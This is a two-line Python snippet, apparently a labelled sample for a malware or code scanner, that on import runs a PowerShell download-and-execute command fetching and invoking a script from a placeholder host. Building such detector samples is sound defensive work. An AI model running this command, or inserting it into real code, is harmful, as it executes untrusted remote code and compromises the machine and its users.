import subprocess
subprocess.run(["powershell", "-c", "IEX (New-Object Net.WebClient).DownloadString('https://code.invalid/x.ps1')"])  # fires: import
